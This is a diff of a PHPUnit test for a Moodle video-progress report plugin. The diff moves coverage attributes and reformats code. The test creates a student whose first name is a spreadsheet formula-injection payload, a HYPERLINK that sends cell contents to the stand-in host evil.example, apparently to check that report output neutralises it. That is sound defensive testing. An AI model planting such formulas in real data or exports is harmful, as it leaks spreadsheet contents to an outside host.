@@ -20,6 +20,8 @@ use filter_hlsgate\local\progress_report;
 use filter_hlsgate\local\progress_store;
 use filter_hlsgate\local\progress_report_table;
 
+#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\progress_report::class)]
+#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\progress_report_table::class)]
 /**
  * The teacher's report's queries: every played video × every student, percent, last watched, resume
  * position, groups, who counts as a student; the capability and the navigation link.
@@ -30,8 +32,6 @@ use filter_hlsgate\local\progress_report_table;
  * @covers     \filter_hlsgate\local\progress_report
  * @covers     \filter_hlsgate\local\progress_report_table
  */
-#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\progress_report::class)]
-#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\progress_report_table::class)]
 final class progress_report_test extends \advanced_testcase {
     /** The first video's resource. */
     private const RES1 = 'https://media.example.test/lectures/AbCdEfGhIjKlMnOpQrSt12/';
@@ -153,8 +153,11 @@ final class progress_report_test extends \advanced_testcase {
         $course = $gen->create_course();
         $context = \context_course::instance($course->id);
         $page = \context_module::instance($gen->create_module('page', ['course' => $course->id, 'name' => '@Intro'])->cmid);
-        $evil = $gen->create_and_enrol($course, 'student',
-            ['firstname' => '=HYPERLINK("http://evil.example/?x="&A1,"Kim")', 'lastname' => '']);
+        $evil = $gen->create_and_enrol(
+            $course,
+            'student',
+            ['firstname' => '=HYPERLINK("http://evil.example/?x="&A1,"Kim")', 'lastname' => '']
+        );
         self::watched($evil, $page, self::RES1, [[0, 60]], 60);
         $this->setAdminUser();
         $PAGE->set_url(new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
